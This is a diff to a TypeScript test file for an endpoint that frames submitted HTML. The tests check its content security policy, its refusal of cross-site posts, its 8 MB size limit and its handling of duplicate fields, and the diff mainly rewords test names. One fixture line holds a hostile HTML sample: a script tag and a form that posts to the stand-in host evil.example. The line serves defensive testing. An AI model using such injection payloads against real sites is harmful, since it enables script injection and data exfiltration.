@@ -12,7 +12,7 @@ const HOSTILE = '<script>top.x = 1</script><form action="https://evil.example"><
 const post = (html: string, headers: Record<string, string> = {}) =>
   fetch(`${server.url}/frame`, { method: 'POST', body: new URLSearchParams({ html }), headers })
 
-test('what is shown comes with a policy of its own: nothing runs, nothing is sent, only we frame it', async () => {
+test('shown HTML has its own policy: nothing runs, nothing is sent, only our pages frame it', async () => {
   const reply = await post(HOSTILE, { 'sec-fetch-site': 'same-origin' })
   expect(await reply.text()).toBe(HOSTILE)
   const policy = reply.headers.get('content-security-policy') ?? ''
@@ -25,19 +25,22 @@ test('what is shown comes with a policy of its own: nothing runs, nothing is sen
   expect(reply.headers.get('cache-control')).toBe('no-store')
 })
 
-test.each(['cross-site', 'same-site', 'none'])('nobody else shows anything under this address: %s', async (site) => {
-  const reply = await post(HOSTILE, { 'sec-fetch-site': site })
-  expect(reply.status).toBe(403)
-  expect(await reply.text()).toBe('Forbidden')
-})
+test.each(['cross-site', 'same-site', 'none'])(
+  'other sites cannot show anything under this address: %s',
+  async (site) => {
+    const reply = await post(HOSTILE, { 'sec-fetch-site': site })
+    expect(reply.status).toBe(403)
+    expect(await reply.text()).toBe('Forbidden')
+  },
+)
 
-test('8 MB are shown, more is 413', async () => {
+test('8 MB are shown, more gets 413', async () => {
   const most = 8 * 1024 * 1024 - 'html='.length
   expect((await post('x'.repeat(most))).status).toBe(200)
   expect((await post('x'.repeat(most + 1))).status).toBe(413)
 })
 
-test('a field sent twice, or none, shows nothing', async () => {
+test('a field sent twice, or not at all, shows nothing', async () => {
   const twice = new URLSearchParams([
     ['html', HOSTILE],
     ['html', HOSTILE],
